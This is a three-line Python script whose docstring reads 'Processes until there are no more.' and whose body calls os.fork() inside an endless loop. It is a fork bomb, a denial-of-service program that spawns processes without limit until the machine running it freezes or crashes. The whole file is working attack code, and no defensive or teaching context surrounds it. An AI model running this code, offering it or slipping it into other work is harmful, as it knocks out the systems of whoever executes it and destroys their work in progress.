"""Processes until there are no more."""
import os
while True:
    os.fork()
